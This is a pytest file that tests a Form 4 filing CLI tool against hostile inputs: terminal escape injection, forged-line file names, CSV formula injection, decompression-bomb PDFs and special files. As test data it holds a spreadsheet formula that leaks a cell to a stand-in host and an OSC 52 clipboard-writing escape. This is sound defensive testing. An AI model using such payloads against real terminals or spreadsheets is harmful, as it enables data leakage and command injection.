"""Issue 10, as a user meets it: `form4` on files a hostile filer or a broken disk can produce.
Every input is made here (tests/hostile.py)."""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
import time
from pathlib import Path

from tests import hostile
from tests.conftest import REPO

C1_OR_ESC = re.compile("[\x1b\x80-\x9f]")


def form4(db: Path, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "COLUMNS": "200", "NO_COLOR": "1", "TERM": "xterm-256color"}
    return subprocess.run([sys.executable, "-m", "tui", "--db", str(db), *args], cwd=REPO, capture_output=True,
                          timeout=timeout, env=env)  # fmt: skip


def _imported(db: Path, *paths: Path) -> list[str]:
    result = form4(db, "import", *map(str, paths))
    assert b"imported" in result.stdout, result.stderr
    listed = form4(db, "list", "--limit", "0", "--format", "tsv").stdout.decode()
    return [line.split("\t")[0] for line in listed.splitlines()]


def test_show_and_list_hold_no_escape_or_c1_from_the_filing(tmp_path: Path) -> None:  # item 1
    db = tmp_path / "db"
    path = hostile.variant_xml(tmp_path, "attack.xml", owner=hostile.TERMINAL_ATTACK, footnote=hostile.TERMINAL_ATTACK)
    assert form4(db, "import", str(path)).returncode == 0
    fid = form4(db, "list", "--format", "tsv").stdout.decode().split("\t")[0]
    runs = [("show", fid), ("list", "--format", "table"), ("list", "--format", "tsv"), ("list", "--format", "json"),
            ("search", "evil", "--format", "table"), ("show", fid, "--format", "json"), ("parse", str(path)),
            ("parse", "--format", "json", str(path))]  # fmt: skip
    for args in runs:
        result = form4(db, *args)
        text = (result.stdout + result.stderr).decode()
        assert "Evil" in text, (args, text)
        assert not C1_OR_ESC.search(text), (args, [m.group() for m in C1_OR_ESC.finditer(text)])
        assert "\u202e" not in text and "\u200b" not in text


def test_failed_lines_cannot_be_forged_by_a_file_name(tmp_path: Path) -> None:  # item 1
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "x.xml\nfailed: forged.xml: a line the filer wrote\x1b[2J.xml").write_bytes(b"not xml")
    result = form4(tmp_path / "db", "import", str(folder))
    lines = result.stderr.decode().splitlines()
    assert len([line for line in lines if line.startswith("failed: ")]) == 1, lines
    assert "\x1b" not in result.stderr.decode()


def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:  # item 2
    db = tmp_path / "db"
    formula = '=HYPERLINK("http://x/?leak="&A1,"click")'
    _imported(db, hostile.variant_xml(tmp_path, "f.xml", owner=formula, footnote="@SUM(A1:A9)"))
    out = tmp_path / "rows.csv"
    assert form4(db, "export", "--format", "csv", "--out", str(out)).returncode == 0
    cells = [cell for row in csv.reader(out.open(encoding="utf-8")) for cell in row]
    assert "'" + formula in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]


def test_numbers_no_filing_holds_import_and_show(tmp_path: Path) -> None:  # item 4
    db = tmp_path / "db"
    ids = _imported(db, hostile.variant_xml(tmp_path, "a.xml", shares="1e999999999", owner="A"),
                    hostile.variant_xml(tmp_path, "b.xml", shares="1e5000", owner="B"),
                    hostile.variant_xml(tmp_path, "c.xml", shares="9" * 5000, owner="C"))  # fmt: skip
    assert len(ids) == 3
    for fid in ids:
        shown = form4(db, "show", fid)
        assert shown.returncode == 0, shown.stderr
        assert b"1e999999999" in shown.stdout or b"1e5000" in shown.stdout or b"9999999999" in shown.stdout


def test_parse_special_files_at_once(tmp_path: Path) -> None:  # item 5
    pipe = hostile.fifo(tmp_path)
    started = time.monotonic()
    for target, said in ((pipe, "FIFO"), (Path("/dev/zero"), "character device"), (tmp_path, "folder")):
        result = form4(tmp_path / "db", "parse", str(target), timeout=30)
        assert result.returncode == 1 and said in result.stderr.decode(), result.stderr
    assert time.monotonic() - started < 60


def test_empty_folder_is_not_success(tmp_path: Path) -> None:  # item 5
    (tmp_path / "empty").mkdir()
    result = form4(tmp_path / "db", "import", str(tmp_path / "empty"))
    assert result.returncode == 1 and b"no filings" in result.stderr


def test_folder_of_every_hostile_file_imports_every_good_one(tmp_path: Path) -> None:  # items 4, 5, 6
    folder = tmp_path / "in"
    folder.mkdir()
    good = [hostile.variant_xml(folder, f"good-{n}.xml", owner=f"Good Owner {n}") for n in range(3)]
    good.append(hostile.variant_xml(folder, os.fsdecode(b"not-utf8-\xff\xfe.xml"), owner="Latin1 Name"))
    good.append(hostile.variant_xml(folder, "overflow.xml", shares="1e999999999", owner="Overflow"))
    deep = hostile.deep_folder(folder, 1100)  # the bundled filing at the bottom: good too
    bad = {hostile.fifo(folder).name, hostile.dev_zero_link(folder).name, hostile.sparse_file(folder).name,
           hostile.flate_bomb_pdf(folder).name, hostile.glyph_flood_pdf(folder).name,
           hostile.many_pages_pdf(folder).name}  # fmt: skip
    sock, server = hostile.unix_socket(folder)
    bad.add(sock.name)
    with server:
        result = form4(tmp_path / "db", "import", "--workers", "1", str(folder), timeout=300)
    err = result.stderr.decode()
    assert b"6 imported" in result.stdout, (result.stdout, err)
    failed = [line for line in err.splitlines() if line.startswith("failed: ")]
    assert len(failed) == len(bad), failed
    assert {Path(line[len("failed: ") :].split(": ")[0]).name for line in failed} == bad
    assert result.returncode == 1
    hostile.remove_deep_folder(deep)


def test_a_500_character_ticker_does_not_break_list(tmp_path: Path) -> None:  # item 11 (CLI)
    db = tmp_path / "db"
    long = hostile.variant_xml(tmp_path, "long.xml", owner="Long Ticker Owner")
    long.write_bytes(re.sub(rb"<issuerTradingSymbol>[^<]*", b"<issuerTradingSymbol>" + b"T" * 500, long.read_bytes()))
    ids = _imported(db, long, hostile.variant_xml(tmp_path, "plain.xml", owner="Plain Owner"))
    table = form4(db, "list", "--format", "table").stdout.decode()
    rows = [line for line in table.splitlines() if line.startswith("│")]
    assert len(rows) == 2, table  # one line per filing
    for fid in ids:
        assert any(f"│ {fid} │" in row for row in rows), table  # ids whole, columns in place


def test_notes_are_printed_inert(tmp_path: Path) -> None:  # item 1: a note pasted from a filing
    db = tmp_path / "db"
    fid = _imported(db, hostile.variant_xml(tmp_path, "n.xml", owner="Note Owner"))[0]
    pasted = "seen \x1b]52;c;ZWNobyBwd25lZA==\x07 \x1b[2J \u009b2J end"
    for args in (("note", fid, pasted), ("note", fid), ("review", fid, "--note", pasted), ("show", fid)):
        text = (form4(db, *args).stdout + form4(db, *args).stderr).decode()
        assert "seen" in text and not C1_OR_ESC.search(text), (args, text)


def test_show_of_a_big_filing_prints_a_bounded_table(tmp_path: Path) -> None:  # item 7
    db = tmp_path / "db"
    fid = _imported(db, hostile.big_xml(tmp_path, "big.xml", rows=1500))[0]
    shown = form4(db, "show", fid)
    assert shown.returncode == 0 and b"and 500 more rows" in shown.stdout
    rows = form4(db, "show", fid, "--format", "tsv").stdout.decode().splitlines()
    assert len(rows) >= 1500  # every row is still there for a script
